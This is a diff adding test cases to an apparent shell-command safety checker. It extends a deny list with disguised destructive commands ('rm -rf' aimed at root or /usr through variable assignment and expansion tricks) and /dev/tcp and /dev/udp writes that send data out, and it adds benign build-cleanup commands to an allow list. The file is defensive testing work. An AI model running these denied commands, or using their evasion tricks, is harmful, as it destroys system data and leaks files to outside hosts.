@@ -272,6 +272,14 @@ DENIED_TEXT_AS_CODE = [
     ("sudo rm -rf -- ${D:-/}", "recursive_removal"),
     ("rm -rf ${TMPDIR:-/tmp}", "recursive_removal"),
     ("bash -c 'rm -rf ${X:-/}'", "recursive_removal"),
+    # a value the line itself assigns, wherever it is assigned
+    ("X=/; rm -rf $X", "recursive_removal"),
+    ('export T=/; rm -rf "$T"/*', "recursive_removal"),
+    ('for i in 1 2; do rm -rf "$D"; D=/usr; done', "recursive_removal"),
+    ("X=a; rm -rf ${X/a//}", "recursive_removal"),
+    ("rm -rf ${X//*//}", "recursive_removal"),
+    ("X=/dev/tcp/h/80; cat f > $X", "network"),
+    ("H=/dev/udp/h/53; echo x >> ${H}", "network"),
 ]
 
 ALLOWED_BASH = [
@@ -343,6 +351,10 @@ ALLOWED_BASH = [
     "rm -rf ${BUILD:-build}",
     'rm -rf "${OUT_DIR:-target}/debug"',
     "rm -rf ${TMPDIR:-/tmp}/x",
+    "D=build; rm -rf $D",
+    "D=/home/me/p/build; rm -rf $D",
+    "rm -rf ${X/a/b}",
+    'OUT=target; rm -rf "$OUT"/debug',
     "git rebase --exec 'cargo test' main",
     "git submodule foreach git pull",
     "git bisect run cargo test",
